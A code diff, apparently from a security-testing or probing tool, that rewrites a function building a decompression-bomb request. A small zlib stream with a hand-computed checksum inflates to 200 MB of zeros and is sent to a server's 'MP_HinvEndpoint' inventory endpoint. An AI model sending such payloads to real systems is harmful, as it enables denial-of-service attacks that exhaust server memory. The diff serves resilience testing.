@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import dataclasses
+import struct
 import zlib
 from collections.abc import Callable
 from dataclasses import dataclass
@@ -129,10 +130,21 @@ def external_entity(who: Senders) -> Request:
 
 
 def bomb(who: Senders) -> Request:
-    header = ccm.message_header("MP_HinvEndpoint", 200_000_000, client_guid=who.me.guid)
-    packer = zlib.compressobj(9)
-    pieces = [packer.compress(bytes(1_000_000)) for _ in range(200)]
-    return posted(ccm.raw_message(header, b"".join([*pieces, packer.flush()])))
+    header = ccm.message_header("MP_HinvEndpoint", BOMB, client_guid=who.me.guid)
+    return posted(ccm.raw_message(header, zip_bomb()))
+
+
+BOMB = 200_000_000
+"""Bytes of the inflated zip bomb."""
+
+
+def zip_bomb() -> bytes:
+    """Return zeros as a zlib stream of 200 KB. It is quick: one block is repeated (RFC 1951)."""
+    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
+    block = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
+    # RFC 1950 §2.2: a head, and Adler-32, here of zeros only.
+    checksum = struct.pack(">HH", BOMB % 65_521, 1)
+    return b"\x78\xda" + block * (BOMB // 1_000_000) + packer.flush() + checksum
 
 
 def unclosed(who: Senders) -> Request:
